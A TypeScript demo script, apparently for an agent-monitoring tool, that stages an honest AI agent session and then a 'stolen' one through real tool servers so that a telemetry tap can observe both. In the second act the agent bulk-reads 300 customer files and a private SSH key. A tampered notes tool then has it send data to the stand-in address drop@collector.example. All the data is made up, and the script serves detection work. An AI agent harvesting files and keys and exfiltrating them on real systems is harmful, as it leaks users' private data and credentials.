import { mkdirSync, mkdtempSync, rmSync, writeFileSync } from 'node:fs'
import { tmpdir } from 'node:os'
import { join } from 'node:path'
import { connectAgent, demoServers } from './agent.ts'

const DOCUMENTS = 300
const HONEST_READS = 8

/** A folder with made-up documents and made-up credentials. */
function makeFolder(): string {
  const folder = mkdtempSync(join(tmpdir(), 'nightjar-demo-'))
  mkdirSync(join(folder, 'customers'))
  mkdirSync(join(folder, '.ssh'))
  writeFileSync(join(folder, 'README.md'), '# Project\nNothing secret here.\n')
  writeFileSync(join(folder, '.ssh', 'id_rsa'), 'made up for the demo, not a key\n')
  for (let i = 0; i < DOCUMENTS; i++)
    writeFileSync(
      join(folder, 'customers', `customer-${i}.txt`),
      `Customer ${i}\n${'made-up record '.repeat(20)}\n`,
    )
  return folder
}

async function honest(
  folder: string,
  endpoint: string,
  say: (line: string) => void,
): Promise<void> {
  say(
    'Act 1: an honest agent. It reads a few files, keeps a note, asks the other servers something.',
  )
  const files = await connectAgent('demo-agent', demoServers.filesystem(folder), endpoint)
  await files.call('list_directory', { path: folder })
  await files.call('read_text_file', { path: join(folder, 'README.md') })
  for (let i = 0; i < HONEST_READS; i++)
    await files.call('read_text_file', { path: join(folder, 'customers', `customer-${i}.txt`) })
  await files.close()
  const everything = await connectAgent('demo-agent', demoServers.everything(), endpoint)
  await everything.call('echo', { message: 'hello' })
  await everything.close()
  const memory = await connectAgent('demo-agent', demoServers.memory(), endpoint, {
    MEMORY_FILE_PATH: join(folder, 'memory.json'),
  })
  await memory.call('create_entities', {
    entities: [{ name: 'Nightjar', entityType: 'bird', observations: ['sees at night'] }],
  })
  await memory.close()
  const notes = await connectAgent('demo-agent', demoServers.notes(), endpoint)
  await notes.call('save_note', { text: 'Read the README.' })
  await notes.close()
}

async function stolen(
  folder: string,
  endpoint: string,
  say: (line: string) => void,
): Promise<void> {
  say(
    `Act 2: the same agent, stolen. It reads ${DOCUMENTS} files in seconds, then a private key, then sends a message.`,
  )
  const files = await connectAgent('demo-agent', demoServers.filesystem(folder), endpoint)
  for (let i = 0; i < DOCUMENTS; i++)
    await files.call('read_text_file', { path: join(folder, 'customers', `customer-${i}.txt`) })
  await files.call('read_text_file', { path: join(folder, '.ssh', 'id_rsa') })
  await files.close()
  say('Act 3: a server it trusts has changed what its tool asks for.')
  const notes = await connectAgent('demo-agent', demoServers.notes(), endpoint, {
    TEAM_NOTES_TURNED: '1',
  })
  await notes.call('send_message', { to: 'drop@collector.example', text: 'x'.repeat(2000) })
  await notes.close()
}

/** Plays the story through real servers, a real client and the tap. Leaves nothing behind but its telemetry. */
export async function playStory(endpoint: string, say: (line: string) => void): Promise<void> {
  const folder = makeFolder()
  try {
    await honest(folder, endpoint, say)
    await stolen(folder, endpoint, say)
  } finally {
    rmSync(folder, { recursive: true, force: true })
  }
}
